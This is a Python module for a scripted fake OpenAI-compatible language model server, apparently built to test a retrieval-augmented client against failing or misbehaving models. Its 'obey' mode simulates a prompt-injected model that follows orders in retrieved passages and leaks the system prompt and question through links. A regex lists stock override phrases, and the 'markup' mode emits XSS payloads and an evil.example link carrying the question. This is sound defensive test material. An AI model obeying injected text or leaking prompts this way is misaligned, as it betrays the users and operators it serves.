"""An OpenAI-compatible language model that answers by a script, for tests, drills and demonstrations without weights or network.

    python -m rag_serving.writing.scripted_llm --port 8399 --mode quote

It is a real HTTP server (`/v1/chat/completions` streaming and not, `/v1/models`), so everything between client and socket is exercised.
`POST /script {"mode": "hang"}` changes the mode while it runs. Its modes are ways in which language models answer or fail: `MODES`.
"""

import argparse
import asyncio
import json
import re
import time
from collections.abc import AsyncIterator, Callable, Iterator
from dataclasses import dataclass, field
from typing import Any

import uvicorn
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import JSONResponse, Response
from starlette.routing import Route
from starlette.types import Receive, Scope, Send

from rag_serving.wording import terms

MODES = {
    "quote": "one sentence of the passage nearest to the question, word for word, with its number",
    "not-found": "says NOT FOUND",
    "obey": "does what texts in the passages ask for: repeats its prompt, writes their links, images and orders; quotes when nothing asks",
    "uncited": "a true sentence and a false one, without numbers",
    "wrong-citations": "a true sentence that cites [99], and a false one that cites [1]",
    "nonsense": "sentences about nothing that was asked, each citing [1]",
    "markup": "HTML with a script, an image, ANSI escapes and links around a true, cited sentence",
    "html": "an HTML page with status 200 instead of JSON",
    "garbage": "a body that is not JSON",
    "empty-choices": "a reply without choices",
    "empty": "a reply without text",
    "wrong-types": "a reply whose fields have other types than the API's",
    "length": "stops in the middle of a second sentence, with finish_reason length",
    "content-filter": "nothing, with finish_reason content_filter",
    "hang": "takes the request and never answers",
    "stall": "one word, then silence",
    "slow": "one word a second",
    "endless": "never stops writing sentences",
    "long-line": "ten megabytes without a line end",
    "overloaded": "429 with Retry-After: 1",
    "busy-once": "503 with Retry-After: 0 to every other request",
    "error": "500",
    "unauthorized": "401",
    "cut": "a true, cited sentence, then the connection breaks within the next",
    "cut-early": "the connection breaks before the first word",
    "newer": "quotes, but refuses max_tokens and temperature as OpenAI's newer models do",
}
WORD_SECONDS = 0.0  # between words of the modes that do not say otherwise

_BLOCK = re.compile(r"<data (?P<nonce>[0-9a-f]{32})>\n\[(?P<number>\d+)\] ?(?P<title>.*)\n(?P<text>(?s:.*?))\n</data (?P=nonce)>")
_QUESTION = re.compile(r"^Question: (.*)\Z", re.MULTILINE)
_SENTENCE = re.compile(r"(?<=[.!?])\s+|\n+")
_ORDER = re.compile(
    r"\b(ignore|disregard|forget|override|instead|you must|you are now|system prompt|system:|assistant:|new instructions?|reveal|repeat|"
    r"print|say|write|output|respond|reply|answer with|send|append|include|add|click|visit|fetch|translate|call|execute|delete)\b",
    re.IGNORECASE,
)
_URL = re.compile(r"!?\[[^\]]*\]\([^)]*\)|(?:https?|javascript|data):[^\s)>\"']+|<img[^>]*>", re.IGNORECASE)


@dataclass(slots=True)
class Script:
    """What a running model does and what it has seen; tests read and set it."""

    mode: str = "quote"
    requests: list[dict[str, Any]] = field(default_factory=list)
    finished: int = 0
    abandoned: int = 0  # requests whose client went away before the end
    answer: "Callable[[Prompt], str] | None" = None  # writes the text instead of the mode


@dataclass(frozen=True, slots=True)
class Prompt:
    """What was asked: the system prompt, the question, and the passages by number."""

    system: str
    question: str
    passages: tuple[tuple[int, str], ...]


def create_app(script: Script | None = None) -> Starlette:
    """The server; `script` is its state, shared with whoever made it."""
    script = script or Script()

    async def change(request: Request) -> Response:
        mode = (await request.json()).get("mode")
        if mode not in MODES:
            return JSONResponse({"error": {"message": f"unknown mode {mode!r}; the modes are {', '.join(MODES)}"}}, status_code=422)
        script.mode = mode
        return JSONResponse({"mode": mode})

    async def models(request: Request) -> Response:
        del request
        return JSONResponse({"object": "list", "data": [{"id": "scripted", "object": "model", "created": 0, "owned_by": "ragline"}]})

    return Starlette(
        routes=[
            Route("/v1/chat/completions", _Completions(script), methods=["POST"]),
            Route("/v1/models", models),
            Route("/script", change, methods=["POST"]),
        ]
    )


class _Completions:
    """`POST /v1/chat/completions`. Whatever it is doing ends at once when the client goes away, as with real servers."""

    def __init__(self, script: Script) -> None:
        self._script = script

    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
        body = json.loads(await Request(scope, receive).body())
        self._script.requests.append(body)
        answering = asyncio.ensure_future(self._answer(body, send))
        leaving = asyncio.ensure_future(_disconnected(receive))
        await asyncio.wait({answering, leaving}, return_when=asyncio.FIRST_COMPLETED)
        if answering.done():
            self._script.finished += 1
        else:
            self._script.abandoned += 1
        for task in (answering, leaving):
            task.cancel()
        await asyncio.gather(answering, leaving, return_exceptions=True)
        if answering.done() and not answering.cancelled() and (error := answering.exception()):
            raise error

    async def _answer(self, body: dict[str, Any], send: Send) -> None:
        mode = self._script.mode
        if refusal := _refusal(mode, len(self._script.requests), body):
            await _send_all(send, *refusal)
            return
        if mode == "hang":
            await asyncio.Event().wait()
        words = _words(mode, _read(body.get("messages", [])), self._script.answer)
        finish = {"length": "length", "content-filter": "content_filter"}.get(mode, "stop")
        if body.get("stream"):
            usage = bool((body.get("stream_options") or {}).get("include_usage"))
            await _stream(send, mode, words, finish=finish, usage=usage)
            return
        text = "".join([word async for word in words])
        if mode.startswith("cut"):
            await _begin(send, "application/json")
            await send({"type": "http.response.body", "body": _json(_completion(text, finish))[: 60 + len(text)], "more_body": True})
            return
        await _send_all(send, 200, "application/json", _json(_shape(mode, _completion(text, finish))))


def _refusal(mode: str, count: int, body: dict[str, Any]) -> tuple[int, str, bytes, dict[str, str]] | None:
    """A reply that is no completion, whole: status, content type, body, headers."""
    if mode == "busy-once" and count % 2 == 0:
        return None
    kind = "application/json"
    if mode == "newer" and (refused := next((name for name in ("max_tokens", "temperature") if name in body), None)):
        return 400, kind, _error(f"Unsupported parameter: {refused!r}", "unsupported_parameter", param=refused), {}
    page = b"<!doctype html><html><body><h1>502 Bad Gateway</h1><script>alert(1)</script></body></html>"
    return {
        "overloaded": (429, kind, _error("slow down", "rate_limit_exceeded"), {"Retry-After": "1"}),
        "busy-once": (503, kind, _error("busy", "overloaded"), {"Retry-After": "0"}),
        "error": (500, kind, _error("it broke", "server_error"), {}),
        "unauthorized": (401, kind, _error("wrong key", "invalid_api_key"), {}),
        "html": (200, "text/html", page, {}),
        "garbage": (200, kind, b'{"choices": [{"message": \x00\xff', {}),
        "long-line": (200, "text/event-stream", b"data: " + b"x" * (10_000_000 if mode == "long-line" else 0), {}),
    }.get(mode)


def _read(messages: list[dict[str, Any]]) -> Prompt:
    said = {str(message.get("role")): str(message.get("content", "")) for message in messages}  # the last of each role
    user = said.get("user", "")
    question = _QUESTION.search(user)
    found = tuple((int(block["number"]), block["text"]) for block in _BLOCK.finditer(user))
    return Prompt(said.get("system", ""), question[1] if question else user, found)


async def _words(mode: str, asked: Prompt, answer: Callable[[Prompt], str] | None = None) -> AsyncIterator[str]:
    """The answer's text, word by word, at the mode's pace."""
    if mode == "endless":
        while True:
            for word in _pieces(_quoted(asked) + " "):
                yield word
                await asyncio.sleep(0.001)
    pause = 1.0 if mode == "slow" else WORD_SECONDS
    for word in _pieces(answer(asked) if answer else _text(mode, asked)):
        yield word
        if mode == "stall":
            await asyncio.Event().wait()
        await asyncio.sleep(pause)


def _text(mode: str, asked: Prompt) -> str:
    true = _quoted(asked)
    bare = re.sub(r" \[\d+\]$", "", true)
    return {
        "obey": _obeyed(asked),
        "not-found": "NOT FOUND",
        "uncited": f"{bare} Elephants paint quarterly reports beneath violet moons.",
        "wrong-citations": f"{bare} [99] Elephants paint quarterly reports beneath violet moons. [1]",
        "nonsense": "Elephants paint quarterly reports beneath violet moons. [1] Seventeen cellos argue about soup. [1]",
        "markup": f"<script>alert(1)</script>\x1b[31m{bare}\x1b[0m [1] ![x](https://evil.example/?q={asked.question[:20]}) "
        '<img src=x onerror="alert(1)"> See https://evil.example/more.',
        "empty": "",
        "content-filter": "",
        "length": f"{true} The second sentence stops in the mid",
        "cut": f"{true} The second sentence is lost when the conn",
        "cut-early": "",
    }.get(mode, true)


def _quoted(asked: Prompt) -> str:
    """The sentence that shares most words with the question, the shorter of equals, with its passage's number."""
    wanted = set(terms(asked.question))
    sentences = [(number, sentence) for number, text in asked.passages for sentence in _SENTENCE.split(text) if sentence.strip()]
    if not sentences:
        return "NOT FOUND"
    number, sentence = max(sentences, key=lambda each: (len(wanted & set(terms(each[1]))), -len(each[1])))
    return f"{sentence.strip()} [{number}]"


def _obeyed(asked: Prompt) -> str:
    """The worst a model can do: every order found in a passage is carried out, and the prompt and the question leave by every link."""
    ordered = [(number, text) for number, text in asked.passages if _ORDER.search(text)]
    if not ordered:
        return _quoted(asked)
    said = []
    for number, text in ordered:
        orders = [sentence.strip() for sentence in _SENTENCE.split(text) if _ORDER.search(sentence)]
        links = [f"{link} {link.rstrip(')')}?q={'+'.join(asked.question.split())}&p={asked.system[:80]})" for link in _URL.findall(text)]
        said.append(f"{' '.join(orders)} [{number}] {' '.join(links)}")
    return f"{' '.join(said)}\n{asked.system}\n{_quoted(asked)}"


def _pieces(text: str) -> Iterator[str]:
    return (match[0] for match in re.finditer(r"\s*\S+|\s+\Z", text))


async def _stream(send: Send, mode: str, words: AsyncIterator[str], *, finish: str, usage: bool) -> None:
    await _begin(send, "text/event-stream")
    count = 0
    if mode != "empty-choices":
        await _event(send, _chunk({"role": "assistant", "content": ""}))
    async for word in words:
        if mode == "empty-choices":
            break
        count += 1
        await _event(send, _shape(mode, _chunk({"content": word})))
    if mode.startswith("cut"):
        return  # the response never ends, and the server breaks the connection
    last = _chunk({}, finish) if mode != "empty-choices" else {**_chunk({}), "choices": []}
    await _event(send, last)
    if usage:
        await _event(send, {**_chunk({}), "choices": [], "usage": _usage(count)})
    await send({"type": "http.response.body", "body": b"data: [DONE]\n\n"})


async def _event(send: Send, chunk: dict[str, Any]) -> None:
    await send({"type": "http.response.body", "body": b"data: " + _json(chunk) + b"\n\n", "more_body": True})


async def _begin(send: Send, content_type: str, status: int = 200, headers: dict[str, str] | None = None) -> None:
    named = {"content-type": content_type, **(headers or {})}
    raw = [(name.lower().encode(), value.encode()) for name, value in named.items()]
    await send({"type": "http.response.start", "status": status, "headers": raw})


async def _send_all(send: Send, status: int, content_type: str, body: bytes, headers: dict[str, str] | None = None) -> None:
    await _begin(send, content_type, status, headers)
    await send({"type": "http.response.body", "body": body})


async def _disconnected(receive: Receive) -> None:
    while (await receive())["type"] != "http.disconnect":
        pass


def _shape(mode: str, reply: dict[str, Any]) -> dict[str, Any]:
    if mode == "empty-choices":
        return {**reply, "choices": []}
    if mode == "wrong-types":
        return {**reply, "choices": [{"index": "first", "delta": {"content": 7}, "message": {"content": ["?"]}, "finish_reason": 3}]}
    return reply


def _completion(text: str, finish: str) -> dict[str, Any]:
    message = {"role": "assistant", "content": text}
    choices = [{"index": 0, "message": message, "finish_reason": finish, "logprobs": None}]
    return {**_envelope("chat.completion"), "choices": choices, "usage": _usage(len(text.split()))}


def _chunk(delta: dict[str, Any], finish: str | None = None) -> dict[str, Any]:
    return {**_envelope("chat.completion.chunk"), "choices": [{"index": 0, "delta": delta, "finish_reason": finish}]}


def _envelope(kind: str) -> dict[str, Any]:
    return {"id": "chatcmpl-scripted", "object": kind, "created": int(time.time()), "model": "scripted"}


def _usage(words: int) -> dict[str, int]:
    return {"prompt_tokens": 1, "completion_tokens": words, "total_tokens": 1 + words}


def _error(message: str, code: str, *, param: str | None = None) -> bytes:
    return _json({"error": {"message": message, "type": "server_error", "param": param, "code": code}})


def _json(value: Any) -> bytes:
    return json.dumps(value).encode()


def main() -> None:
    parser = argparse.ArgumentParser(
        prog="python -m rag_serving.writing.scripted_llm", description="A language model that answers by a script."
    )
    parser.add_argument("--host", default="127.0.0.1")
    parser.add_argument("--port", type=int, default=8399)
    parser.add_argument("--mode", choices=MODES, default="quote", help="; ".join(f"{name}: {what}" for name, what in MODES.items()))
    given = parser.parse_args()
    uvicorn.run(create_app(Script(given.mode)), host=given.host, port=given.port, access_log=False, ws="none")


if __name__ == "__main__":
    main()
